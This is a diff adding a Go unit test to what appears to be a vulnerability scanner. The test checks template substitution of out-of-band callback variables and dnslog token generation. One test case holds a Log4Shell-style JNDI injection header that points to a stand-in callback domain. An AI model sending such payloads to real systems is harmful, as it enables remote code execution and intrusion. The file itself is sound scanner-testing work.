@@ -0,0 +1,48 @@
+package finger
+
+import (
+	"strings"
+	"testing"
+	"xfirefly/pkg/utils/proto"
+)
+
+func TestSetVariableMapReverse(t *testing.T) {
+	variableMap := map[string]any{
+		"reverse": &proto.Reverse{
+			Url:         &proto.UrlType{Scheme: "http", Host: "abc123.dnslog.cn"},
+			Domain:      "abc123.dnslog.cn",
+			Ip:          "abc123.dnslog.cn",
+			DnslogToken: "abc123",
+		},
+		"name": "admin",
+	}
+
+	tests := []struct {
+		find string
+		want string
+	}{
+		{"X-Api-Version: ${jndi:ldap://{{reverse.domain}}/a}", "X-Api-Version: ${jndi:ldap://abc123.dnslog.cn/a}"},
+		{"callback={{reverse.url}}&user={{name}}", "callback=http://abc123.dnslog.cn&user=admin"},
+		{"token={{reverse.dnslog_token}},{{reverse.dnslogToken}}", "token=abc123,abc123"},
+		{"{{reverse.unknown}}", "{{reverse.unknown}}"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.find, func(t *testing.T) {
+			if got := SetVariableMap(tt.find, variableMap); got != tt.want {
+				t.Errorf("SetVariableMap = %q，期望 %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestNewReverseDnslogToken(t *testing.T) {
+	// 反连标识为域名中的随机子域名或jndi路径
+	reverse := newReverse()
+	if reverse.DnslogToken == "" || !strings.HasPrefix(reverse.Domain, reverse.DnslogToken+".") {
+		t.Errorf("dnslog_token = %q，domain = %q，期望为域名的子域名部分", reverse.DnslogToken, reverse.Domain)
+	}
+	jndi := newJNDI()
+	if jndi.DnslogToken == "" || jndi.Url.Path != "/"+jndi.DnslogToken {
+		t.Errorf("dnslog_token = %q，path = %q，期望为jndi路径", jndi.DnslogToken, jndi.Url.Path)
+	}
+}